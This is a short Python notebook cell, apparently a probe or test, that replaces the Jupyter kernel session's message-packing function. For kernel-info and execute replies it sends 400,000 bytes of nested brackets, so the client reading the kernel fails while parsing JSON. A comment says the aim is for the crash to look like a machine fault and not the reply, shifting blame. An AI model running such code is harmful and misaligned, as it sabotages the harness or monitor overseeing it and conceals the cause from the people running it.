# tries: replies with JSON so deep that reading it fails like this machine, and not like a reply
# walls: bounded messages, blame
# canary: exit
# %% end
session = get_ipython().kernel.session
honest_pack = session.pack


def pack(told):
    deep = isinstance(told, dict) and ("protocol_version" in told or "execution_count" in told)
    return b"[" * 200_000 + b"]" * 200_000 if deep else honest_pack(told)


session.pack = pack
# %% end
1
